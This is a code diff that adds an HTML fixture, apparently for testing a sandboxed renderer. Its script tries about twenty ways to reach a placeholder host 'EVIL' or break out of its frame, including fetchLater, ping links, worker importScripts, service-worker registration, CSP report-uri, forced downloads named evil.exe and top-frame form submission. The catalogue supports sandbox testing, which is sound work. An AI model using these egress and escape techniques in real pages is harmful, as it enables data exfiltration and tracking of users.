@@ -128,6 +128,53 @@ def connecting_html(elsewhere: str) -> str:
     return _CONNECTING.replace("EVIL", elsewhere).replace("HOST", elsewhere.partition("://")[2])
 
 
+_LEAVING = """<!doctype html><title>plot</title><div id="plot">not drawn</div><script>
+const plot = document.getElementById('plot');
+const INNER = '<script>fetch("EVIL/inner"); location = "EVIL/away"<\\/script><img src="EVIL/child">';
+const add = (name, properties, attributes = {}) => {
+  const made = Object.assign(document.createElement(name), properties);
+  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
+  return document.body.appendChild(made);
+};
+const attempts = [
+  () => fetchLater('EVIL/later', {activateAfter: 0}),
+  () => add('img', {src: 'EVIL/attributed'}, {attributionsrc: 'EVIL/source'}),
+  () => add('a', {href: '#x', ping: 'EVIL/ping'}).click(),
+  () => add('a', {href: 'EVIL/blank', target: '_blank'}, {attributionsrc: 'EVIL/click'}).click(),
+  () => add('a', {href: 'data:application/octet-stream,x', download: 'evil.exe'}).click(),
+  () => add('a', {href: URL.createObjectURL(new Blob(['x'])), download: 'evil.html'}).click(),
+  () => add('iframe', {srcdoc: INNER}),
+  () => add('iframe', {src: 'data:text/html,' + encodeURIComponent(INNER)}),
+  () => add('iframe', {src: URL.createObjectURL(new Blob([INNER], {type: 'text/html'}))}),
+  () => add('iframe', {src: 'javascript:fetch("EVIL/scheme")'}),
+  () => new Worker(URL.createObjectURL(new Blob(['fetch("EVIL/worker"); importScripts("EVIL/import")']))),
+  () => add('style', {textContent: 'body { cursor: url(EVIL/cursor), auto; background: image-set("EVIL/set" 1x) }'}),
+  () => document.head.append(Object.assign(document.createElement('meta'), {
+    httpEquiv: 'Content-Security-Policy', content: "style-src 'none'; report-uri EVIL/report"})),
+  () => navigator.credentials.get({identity: {providers: [{configURL: 'EVIL/login', clientId: 'x'}]}}),
+  () => navigator.joinAdInterestGroup({owner: 'EVIL', name: 'x', lifetimeMs: 1e6}),
+  () => sharedStorage.worklet.addModule('EVIL/worklet'),
+  () => navigator.serviceWorker.register('EVIL/service'),
+  () => alert('evil'),
+  () => history.back(),
+  () => add('form', {action: 'EVIL/top', target: '_top'}).requestSubmit(),
+];
+(async () => {
+  for (const attempt of attempts) {
+    try { attempt()?.catch?.(() => 0); } catch (error) { }
+    // A navigation ends the one before it.
+    await new Promise(resolve => setTimeout(resolve, 50));
+  }
+  plot.textContent = 'tried';
+})();
+</script>"""
+
+
+def leaving_html(elsewhere: str) -> str:
+    """Return a document that tries more ways out of its frame, and then says ``tried`` in ``#plot``."""
+    return _LEAVING.replace("EVIL", elsewhere)
+
+
 def pdf(elsewhere: str) -> bytes:
     """Return one page that opens a URL and runs a script when it is opened."""
     objects = [
